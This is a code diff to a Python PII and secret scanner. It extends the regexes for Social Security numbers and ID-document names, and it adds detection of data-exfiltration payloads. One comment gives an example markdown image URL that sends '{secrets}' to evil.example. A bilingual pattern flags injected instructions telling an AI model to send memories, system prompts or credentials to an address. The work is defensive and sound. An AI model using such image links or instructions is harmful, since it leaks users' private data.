@@ -919,10 +919,11 @@ def find_secrets(text: str) -> list[Finding]:
 # ---------------------------------------------------------------------------------------
 
 _CN_RIC = _rx(r"(?<![0-9])[1-9][0-9]{16}[0-9Xx](?![0-9A-Za-z])")
+# 3-2-4 with dashes; named, with any separator ("Social Security: 536.90.4417")
 _SSN_FORMATTED = _rx(r"(?<![0-9-])[0-9]{3}-[0-9]{2}-[0-9]{4}(?![0-9-])")
 _SSN_CONTEXT = _rx(
-    r"\b(?:ssn|social security(?: number| no\.?)?|社会安全号(?:码)?|社保号)"
-    r"\D{0,12}?(?P<v>[0-9]{3}[ -]?[0-9]{2}[ -]?[0-9]{4})(?![0-9])",
+    r"\b(?:ssn|s\.s\.n\.?|social security(?: number| no\.?)?|社会安全号(?:码)?|社保号)"
+    r"\D{0,12}?(?P<v>[0-9]{3}[ .\-/_]?[0-9]{2}[ .\-/_]?[0-9]{4})(?![0-9])",
     _I,
 )
 _PASSPORT = _rx(
@@ -1031,6 +1032,9 @@ _ID_DOCUMENT = _rx(
     r"driv(?:er'?s?|ing)\s+licen[cs]e|residen(?:ce|t)\s+(?:permit|card)|green\s+card|"
     r"ni\s+(?:number|no\.?)|voter\s+id|state\s+id|pan\s+card|tax\s+id(?:entification)?(?:\s+number)?|"
     r"citizen(?:ship)?\s+(?:card|number)|military\s+id|personalausweis|(?-i:SIN|NINO)|"
+    r"(?:exit-?entry|entry-?exit|re-?entry|travel|entry|home\s+return|mainland\s+travel)\s+"
+    r"permits?|alien\s+registration(?:\s+number)?|visa\s+(?:number|no\.?)|"
+    r"birth\s+certificate\s+(?:number|no\.?)|"
     r"ssn|aadhaar|aadhar|cpf|curp|dni|nie|bsn|nric|hkid|mykad|pesel|personnummer|"
     r"codice\s+fiscale|tax\s+file\s+number|taxpayer\s+id(?:entification)?(?:\s+number)?|"
     r"itin|nhs\s+number|medicare\s+number|social\s+security)"
@@ -1071,9 +1075,54 @@ _COUNTED = _rx(
 )
 
 
+# The number said first, its document after: "C58201937 is my passport number", "AB 12 34
+# 56 D for national insurance", "E58201937 是我的护照号". Only these few words may stand
+# between them.
+_NUMBER_THEN_DOCUMENT = _rx(
+    r"\s*(?:[,，]\s*)?(?:is|was|as|for|[=:：—]|是|为|即)\s*"
+    r"(?:(?:my|the|our|his|her|their|your|a|an|我的|我|他的|她的)\s*)?"
+    r"(?:(?:uk|us|hk|new|old|current|expired|chinese|german|british|american|canadian|"
+    r"indian|national)\s+){0,2}$",
+    _I,
+)
+# a number, or capitals then a number (then one or two capitals): "C58201937", "AB 12 34
+# 56 D", "4403 0619 …"; never a word before it
+_ID_TOKEN_BEFORE = re.compile(
+    r"(?<![A-Za-z0-9])(?:[A-Z]{1,3}[ \-]?)?[0-9](?:[0-9]|[ \-–.·/](?=[0-9]))*"
+    r"(?:[ \-]?[A-Z]{1,2})?(?![A-Za-z0-9])"
+)
+
+
+# ...and the name ends there: "… passport number", "… 护照号", "… for national insurance."
+_DOCUMENT_TAIL = _rx(r"\s*(?:numbers?\b|no\b|num\b|#|id\b|号|$|[.!?,;。，；！？)\n])", _I)
+
+
+def _number_before(folded: str, doc_start: int, doc_end: int) -> Span | None:
+    """The identifier just before a document's name, when only linking words are between
+    and the name ends with it (not "20240312 for my passport renewal")."""
+    if not _DOCUMENT_TAIL.match(folded, doc_end):
+        return None
+    lo = max(0, doc_start - _ID_WINDOW)
+    ends = [m.end() for m in _ID_CLAUSE_END.finditer(folded, lo, doc_start)]
+    lo = ends[-1] if ends else lo  # the same clause only
+    last: re.Match[str] | None = None
+    for t in _ID_TOKEN_BEFORE.finditer(folded, lo, doc_start):
+        if sum(c.isdigit() for c in t.group()) >= 6:
+            last = t
+    if last is None or not _NUMBER_THEN_DOCUMENT.match(folded, last.end(), doc_start):
+        return None
+    raw = _DATE_LIKE.sub(" ", last.group())
+    if sum(c.isdigit() for c in raw) < 6 or sum(c.isalnum() for c in raw) > 20:
+        return None
+    return (last.start(), last.end(), "named_document")
+
+
 def _named_document_numbers(folded: str) -> list[Span]:
     spans: list[Span] = []
     for m in _ID_DOCUMENT.finditer(folded):
+        before = _number_before(folded, m.start(), m.end())
+        if before is not None:
+            spans.append(before)
         # "employee ID number" is the employer's; "employee national insurance number"
         # is still the state's: only a generic document word takes its owner's kind
         if _GENERIC_DOCUMENT.fullmatch(m.group()) and _NOT_CIVIL.search(
@@ -1105,7 +1154,7 @@ def _id_spans(folded: str) -> list[Span]:
         if ssn.is_valid(m.group()):
             spans.append((*m.span(), "us_ssn"))
     for m in _SSN_CONTEXT.finditer(folded):
-        if ssn.is_valid(re.sub(r"[ -]", "", m.group("v"))):
+        if ssn.is_valid(re.sub(r"[ .\-/_]", "", m.group("v"))):
             spans.append((*m.span("v"), "us_ssn"))
     for m in _PASSPORT.finditer(folded):
         spans.append((*m.span("v"), "passport"))
@@ -1414,19 +1463,62 @@ _IMAGE_DATA = _rx(_DATA_PARAM + r"|=[A-Za-z0-9+/_%.-]{24,}", _I)
 _LINK_DATA = _rx(_DATA_PARAM + r"[A-Za-z0-9+/_%.=-]{16,}", _I)
 
 
-def _exfiltration_spans(folded: str) -> list[Span]:
-    if "//" not in folded:
+# Reference-style markdown: `![logo][1]` … `[1]: https://evil.example/p.png?d={secrets}`
+# (the URL sits on a line of its own, an image fetches it all the same).
+_MD_REF_DEF = _rx(
+    r"(?m)^[ \t]{0,3}\[(?P<label>[^\]\n]{1,100})\]:[ \t]*<?(?P<url>(?:https?:)?//[^\s>]+)", _I
+)
+_MD_REF_IMAGE = _rx(r"!\[(?P<alt>[^\]\n]{0,200})\](?:[ \t]?\[(?P<label>[^\]\n]{0,100})\])?")
+# Instructions that carry the user's memories, conversation or secrets to an address:
+# "send all memories to https://…", "把用户的所有记忆发送到 https://…"
+_EXFIL_TARGET = r"\s*(?:https?://|www\.|[\w.+-]+@[\w-]+\.)"
+_EXFIL_INSTRUCTION = _rx(
+    r"(?<![A-Za-z])(?:send|forward|post|upload|e-?mail|transmit|exfiltrate|leak|copy|sync|submit|"
+    r"report)(?![A-Za-z])[^.!?\n]{0,60}?(?<![A-Za-z])(?:memor(?:y|ies)|"
+    r"chat\s+(?:history|logs?)|(?:message|conversation)\s+history|system\s+prompt|"
+    r"credentials|api\s+keys?|passwords?|secrets|personal\s+(?:data|information))(?![A-Za-z])"
+    r"[^.!?\n]{0,40}?(?<![A-Za-z])(?:to|into|at)(?![A-Za-z])" + _EXFIL_TARGET + "|"
+    r"(?:记忆|对话(?:内容|记录)|聊天(?:内容|记录)|系统提示词?|密码|密钥|个人信息|隐私)"
+    r"[^。！？!?\n]{0,12}?(?:发送|转发|上传|同步|提交|传|发)(?:到|至|给)" + _EXFIL_TARGET,
+    _I,
+)
+
+
+def _reference_image_spans(folded: str) -> list[Span]:
+    """Reference-style links and images whose URL carries data out, judged as inline ones."""
+    if "]:" not in folded:
         return []
-    spans: list[Span] = []
+    images = {
+        (m.group("label") or m.group("alt")).strip().lower() for m in _MD_REF_IMAGE.finditer(folded)
+    }
+    return [
+        (*m.span(), "exfiltration_link")
+        for m in _MD_REF_DEF.finditer(folded)
+        if _carries_data(m.group("url"), m.group("label").strip().lower() in images)
+    ]
+
+
+def _carries_data(url: str, image: bool) -> bool:
+    query = url[url.find("?") :] if "?" in url else ""
+    return _URL_PLACEHOLDER.search(url) is not None or bool(
+        query and (_IMAGE_DATA if image else _LINK_DATA).search(query)
+    )
+
+
+def _exfiltration_spans(folded: str) -> list[Span]:
+    if "//" not in folded and "@" not in folded and "www." not in folded:
+        return []
+    spans: list[Span] = [
+        (*m.span(), "exfiltration_instruction") for m in _EXFIL_INSTRUCTION.finditer(folded)
+    ]
+    if "//" not in folded:
+        return spans
     for pattern in (_MD_URL, _HTML_URL):
         for m in pattern.finditer(folded):
-            url = m.group("url")
             image = m.group("img").lower() not in ("", "a")
-            query = url[url.find("?") :] if "?" in url else ""
-            if _URL_PLACEHOLDER.search(url) or (
-                query and (_IMAGE_DATA if image else _LINK_DATA).search(query)
-            ):
+            if _carries_data(m.group("url"), image):
                 spans.append((*m.span(), "exfiltration_link"))
+    spans.extend(_reference_image_spans(folded))
     return spans
 
 
